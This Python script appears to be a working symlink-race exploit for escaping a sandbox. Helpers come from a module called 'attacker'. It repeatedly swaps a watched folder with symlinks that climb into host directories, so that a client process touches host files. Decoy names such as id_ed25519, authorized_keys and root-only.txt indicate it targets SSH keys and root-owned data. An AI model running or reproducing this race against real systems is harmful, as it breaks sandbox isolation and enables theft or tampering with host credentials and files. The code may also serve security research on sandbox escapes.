"""Swaps the folder ~/race/here for links to folders of the host, one after another, as fast as possible.

Restores what a client has moved or deleted meanwhile. Arguments: targets of the links.
"""
import os
import sys

from attacker import climb, exchange, magic_folders, ready

race = '/home/daytona/race'
here = f'{race}/here'
os.makedirs(f'{here}/project', exist_ok=True)
folder = os.open(here, os.O_DIRECTORY)
files = ['notes.txt', 'root-only.txt', 'id_ed25519', 'authorized_keys', 'project/inside.txt']


def put_back():
    for name in files:
        try:
            os.stat(name, dir_fd=folder)
        except FileNotFoundError:
            try:
                try:
                    os.mkdir('project', dir_fd=folder)
                except FileExistsError:
                    pass
                descriptor = os.open(name, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=folder)
                os.write(descriptor, b'harmless\n')
                os.close(descriptor)
            except OSError:
                pass


targets = sys.argv[1:] or [f'{each}{climb(4)}' for each in magic_folders(6)]
links = []
for number, target in enumerate(targets):
    link = f'{race}/link{number}'
    if os.path.islink(link):
        os.unlink(link)
    os.symlink(target, link)
    links.append(link)

put_back()
ready()
turn = 0
while True:
    link = links[turn % len(links)]
    # The second swap restores the folder.
    for _ in range(40):
        exchange(here, link)
        exchange(here, link)
    turn += 1
    if turn % 8 == 0:
        put_back()
